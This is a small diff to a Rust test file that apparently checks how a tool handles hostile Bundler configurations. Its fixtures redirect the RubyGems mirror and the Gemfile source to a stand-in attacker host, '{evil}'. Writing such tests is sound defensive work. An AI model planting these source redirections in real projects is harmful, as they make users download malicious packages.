@@ -238,6 +238,7 @@ fn the_others() {
         &[
             Project {
                 hostile: &[(".bundle/config", "---\nBUNDLE_MIRROR__HTTPS://RUBYGEMS__ORG/: \"http://{evil}/\"\n")],
+                applied_is_told: true,
                 ..bundler
             },
             Project { files: &[], hostile: &[("Gemfile", "source 'http://{evil}/'\ngem 'tiny'\n")], ..bundler },
